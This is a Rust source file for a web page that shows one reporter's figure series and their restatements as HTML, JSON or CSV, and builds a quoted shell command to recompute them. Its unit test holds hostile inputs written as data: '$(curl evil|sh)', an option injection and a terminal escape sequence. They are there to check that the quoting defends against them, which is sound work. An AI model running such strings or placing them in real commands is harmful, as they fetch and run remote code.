//! Figures through time: of one reporter, for each period every value it published, when, and how it changed. Nothing that was
//! restated is taken away.

use askama::Template;
use axum::http::StatusCode;
use figures::series::{Of, Series, Version, Versions, series};
use register::{
    codelist::{FigureOutcome, Measure, Unit},
    id::{BodyId, Reference},
    lang::Lang,
};
use serde_json::{Value, json};

use super::{
    answer::Made,
    card::Badge,
    error::PageError,
    frame::Frame,
    gap::reporter,
    gaps::{is_currency, part, shown},
    in_use::unit_words,
    link::{Cell, Link, entry_href, escaped, with_params},
    records::Problem,
    shell,
    text::{self, Arg},
    twins::csv,
    visit::{Desk, Format, Visit},
    words,
};
use crate::index::Names;

/// Series of a page, and of a file.
const PAGE: usize = 25;
const FILE: usize = 500;

/// The page.
#[derive(Debug, Template)]
#[template(path = "series.html", whitespace = "minimize")]
struct Page {
    frame: Frame,
    problems: Vec<Problem>,
    /// The reporter asked for, and what stands in the field.
    of: Option<Cell>,
    value: String,
    /// What else is asked for: label, name and value.
    only: Vec<(String, &'static str, String)>,
    /// Reporters that restated something, where none is asked for.
    reporters: Vec<(Link, String)>,
    count: String,
    series: Vec<SeriesView>,
    recompute: Option<String>,
    next: Option<String>,
    first: Option<String>,
}

/// One series.
#[derive(Debug)]
struct SeriesView {
    id: String,
    says: Vec<Cell>,
    periods: Vec<PeriodView>,
}

/// One period: its values, the oldest first.
#[derive(Debug)]
struct PeriodView {
    period: String,
    versions: Vec<VersionView>,
}

/// One value.
#[derive(Debug)]
struct VersionView {
    value: String,
    change: String,
    stands: Badge,
    published: Cell,
    received: Cell,
    rule: String,
    entry: (String, String),
}

/// What is asked for.
struct Asked {
    reporter: Option<String>,
    measure: Option<Measure>,
    unit: Option<String>,
    from: usize,
}

/// Makes the page or its twins.
pub(super) fn make(desk: &Desk<'_>) -> Result<Made, PageError> {
    let (asked, problems) = Asked::read(desk.visit);
    let html = desk.visit.format == Format::Html;
    if let (Some(problem), false) = (problems.first(), html) {
        return Err(PageError::Unclear(problem.says.clone()));
    }
    let (total, shown) = asked.series(desk, if html { PAGE } else { FILE })?;
    let end = asked.from + shown.len();
    let next = |ending: &str| (end < total).then(|| asked.address(desk.visit, ending, end));
    match desk.visit.format {
        Format::Json => {
            let documents: Vec<Value> = shown.iter().map(Series::document).collect();
            let restating = if asked.reporter.is_none() { desk.reading.restating()? } else { Vec::new() };
            let reporters: Vec<Value> =
                restating.iter().map(|(reporter, count)| json!({ "reporter": reporter, "restated": count })).collect();
            let next = next(".json");
            let document = json!({ "reporter": asked.reporter, "total": total, "series": documents,
                "reporters": reporters, "next": next });
            Ok(Made::json(&document)?.then(next))
        }
        Format::Csv => Ok(Made::csv(csv(&COLUMNS, shown.iter().flat_map(csv_rows))).then(next(".csv"))),
        Format::Html => page(desk, &asked, problems, (total, &shown), next("")),
    }
}

impl Asked {
    fn read(visit: &Visit) -> (Asked, Vec<Problem>) {
        let mut problems = Vec::new();
        let asked = Asked {
            reporter: visit.param("reporter").map(str::to_owned),
            measure: part(visit, &mut problems, "measure", Measure::parse),
            unit: part(visit, &mut problems, "unit", |code| {
                (Unit::parse(code).is_some() || is_currency(code)).then(|| code.to_owned())
            }),
            from: part(visit, &mut problems, "from", |from| from.parse().ok()).unwrap_or_default(),
        };
        (asked, problems)
    }

    /// How many series there are, and those from one on, so many at most: of the others no figure is read.
    fn series(&self, desk: &Desk<'_>, most: usize) -> Result<(usize, Vec<Series>), PageError> {
        let Some(reporter) = &self.reporter else { return Ok((0, Vec::new())) };
        let all = desk.reading.series_of(reporter, self.measure, self.unit.as_deref())?;
        let mut figures = Vec::new();
        for of in all.iter().skip(self.from).take(most) {
            figures.extend(desk.reading.published_by(reporter, of)?);
        }
        Ok((all.len(), series(figures)))
    }

    fn only(&self, lang: Lang) -> Vec<(String, &'static str, String)> {
        let measure = self.measure.map(|measure| (text::get(lang, "by-measure"), "measure", measure.code().to_owned()));
        let unit = self.unit.clone().map(|unit| (text::get(lang, "use-unit"), "unit", unit));
        measure.into_iter().chain(unit).collect()
    }

    fn address(&self, visit: &Visit, ending: &str, from: usize) -> String {
        let parts = [
            ("reporter", self.reporter.as_deref().map(escaped)),
            ("measure", self.measure.map(|measure| measure.code().to_owned())),
            ("unit", self.unit.clone()),
            ("from", (from > 0).then(|| from.to_string())),
        ];
        visit.href(&with_params(&format!("/series{ending}"), parts))
    }

    /// The command that computes the same from the log; none where no reporter is asked for, or one that no terminal takes.
    fn command(&self) -> Option<String> {
        let reporter = self.reporter.as_deref().filter(|reporter| shell::is_pasted_safely(reporter))?;
        let measure = self.measure.map(|measure| format!(" --measure {}", measure.code())).unwrap_or_default();
        // A name that begins like an option is none.
        let end = if reporter.starts_with('-') { " --" } else { "" };
        Some(format!("veedor figures series{measure}{end} {}", shell::quoted(reporter)))
    }
}

fn page(
    desk: &Desk<'_>,
    asked: &Asked,
    problems: Vec<Problem>,
    (total, shown): (usize, &[Series]),
    next: Option<String>,
) -> Result<Made, PageError> {
    let lang = desk.visit.lang;
    let restating = if asked.reporter.is_none() { desk.reading.restating()? } else { Vec::new() };
    let named = asked.reporter.iter().chain(restating.iter().map(|(reporter, _)| reporter));
    let others = shown.iter().filter_map(|series| series.of.other.as_ref());
    let bodies = named.chain(others).filter_map(|id| BodyId::parse(id)).map(Reference::Body);
    let names = desk.reading.names_for(bodies)?;
    let status = if problems.is_empty() { StatusCode::OK } else { StatusCode::BAD_REQUEST };
    let of = |(who, count): &(String, u64)| {
        let href = desk.visit.href(&format!("/series?reporter={}", escaped(who)));
        let link = Link { href, words: reporter(who, lang, &names).text };
        (link, text::count(lang, "series-restated", *count))
    };
    let crumb = Link { href: desk.visit.href("/use"), words: text::get(lang, "nav-use") };
    let page = Page {
        frame: Frame::with_twins(desk, text::get(lang, "nav-series"), vec![crumb]),
        problems,
        of: asked.reporter.as_deref().map(|who| reporter(who, lang, &names)),
        value: asked.reporter.clone().unwrap_or_default(),
        only: asked.only(lang),
        reporters: restating.iter().map(of).collect(),
        count: text::count(lang, "series-count", total as u64),
        series: shown.iter().enumerate().map(|(at, series)| SeriesView::new(at, series, lang, &names)).collect(),
        recompute: asked.command(),
        next,
        first: (asked.from > 0).then(|| asked.address(desk.visit, "", 0)),
    };
    Made::page_with(status, &page)
}

impl SeriesView {
    fn new(at: usize, series: &Series, lang: Lang, names: &Names) -> SeriesView {
        let unit = &series.of.unit;
        let period = |of: &Versions| PeriodView {
            period: of.words(),
            versions: of.all.iter().map(|version| VersionView::new(version, unit, lang)).collect(),
        };
        SeriesView {
            id: format!("series-{at}"),
            says: says(&series.of, lang, names),
            periods: series.periods.iter().map(period).collect(),
        }
    }
}

/// What a series is of, in words.
fn says(of: &Of, lang: Lang, names: &Names) -> Vec<Cell> {
    let words = [
        of.measure.map(|measure| measure.words().in_(lang).to_owned()),
        Some(unit_words(&of.unit, lang)),
        of.outcome.map(|outcome: FigureOutcome| outcome.words().in_(lang).to_owned()),
        Some(of.place.clone()),
        of.technology.clone(),
        of.basis.clone(),
        of.category.clone(),
    ];
    let mut all: Vec<Cell> = words.into_iter().flatten().map(Cell::text).collect();
    all.extend(of.other.as_ref().map(|other| reporter(other, lang, names)));
    all
}

impl VersionView {
    fn new(version: &Version, unit: &str, lang: Lang) -> VersionView {
        let (class, shape, key) = match version.restated {
            true => ("plain", "○", "series-was"),
            false => ("filed", "●", "series-stands"),
        };
        let value = match version.absent {
            true => text::get(lang, "series-absent"),
            false => shown(version.amount, unit, lang),
        };
        VersionView {
            value,
            change: version.change.map(|change| changed(change, unit, lang)).unwrap_or_default(),
            stands: Badge { class, shape, words: text::get(lang, key) },
            published: version.published.map_or_else(|| Cell::text("–"), |day| words::day_cell(day.days(), lang)),
            received: words::day_cell(version.received.days(), lang),
            rule: version.rule.clone(),
            entry: (words::number(version.entry, lang), entry_href(version.entry, lang)),
        }
    }
}

/// How much more or less, with its sign.
fn changed(change: i128, unit: &str, lang: Lang) -> String {
    let by = u64::try_from(change.unsigned_abs()).unwrap_or(u64::MAX);
    let by = Arg::Text(shown(figures::amount::Amount::exactly(by), unit, lang));
    match change {
        0 => text::get(lang, "series-same"),
        ..0 => text::with(lang, "series-less", &[("by", by)]),
        _ => text::with(lang, "series-more", &[("by", by)]),
    }
}

const COLUMNS: [&str; 21] = [
    "measure",
    "unit",
    "outcome",
    "other",
    "place",
    "technology",
    "basis",
    "category",
    "from",
    "until",
    "low",
    "high",
    "absent",
    "change",
    "restated",
    "counting_rule",
    "published",
    "received",
    "own",
    "filing",
    "entry",
];

fn csv_rows(series: &Series) -> Vec<Vec<String>> {
    let of = &series.of;
    let maybe = |text: &Option<String>| text.clone().unwrap_or_default();
    let head = [
        of.measure.map(|measure| measure.code().to_owned()).unwrap_or_default(),
        of.unit.clone(),
        of.outcome.map(|outcome| outcome.code().to_owned()).unwrap_or_default(),
        maybe(&of.other),
        of.place.clone(),
        maybe(&of.technology),
        maybe(&of.basis),
        maybe(&of.category),
    ];
    let row = |period: &Versions, version: &Version| {
        let rest = [
            period.from.to_string(),
            period.to.map(|to| to.to_string()).unwrap_or_default(),
            version.amount.low.to_string(),
            version.amount.high.map(|high| high.to_string()).unwrap_or_default(),
            version.absent.to_string(),
            version.change.map(|change| change.to_string()).unwrap_or_default(),
            version.restated.to_string(),
            version.rule.clone(),
            version.published.map(|day| day.to_string()).unwrap_or_default(),
            version.received.to_string(),
            version.own.to_string(),
            version.filing.as_ref().map(ToString::to_string).unwrap_or_default(),
            version.entry.to_string(),
        ];
        head.iter().cloned().chain(rest).collect()
    };
    series
        .periods
        .iter()
        .flat_map(|period| period.all.iter().map(move |version| (period, version)))
        .map(|(period, version)| row(period, version))
        .collect()
}

#[cfg(test)]
mod tests {
    use expect_test::expect;

    use super::{Asked, Measure};

    #[test]
    fn the_command_runs_nothing_that_was_asked_for() {
        let of = |reporter: &str, measure: Option<&str>| {
            let (reporter, measure) = (Some(reporter.to_owned()), measure.and_then(Measure::parse));
            Asked { reporter, measure, unit: None, from: 0 }.command().unwrap_or_else(|| "none".to_owned())
        };
        let commands = [
            of("mx/fgr", None),
            of("mx/fgr", Some("interception")),
            of("$(curl evil|sh)", None),
            of("Sheriff's Office", Some("interception")),
            of("--url=http://evil", None),
            of("a\u{1b}[201~id", None),
            Asked { reporter: None, measure: None, unit: None, from: 0 }.command().unwrap_or_else(|| "none".to_owned()),
        ];
        expect![[r#"
            veedor figures series 'mx/fgr'
            veedor figures series --measure interception 'mx/fgr'
            veedor figures series '$(curl evil|sh)'
            veedor figures series --measure interception 'Sheriff'\''s Office'
            veedor figures series -- '--url=http://evil'
            none
            none"#]]
        .assert_eq(&commands.join("\n"));
    }
}
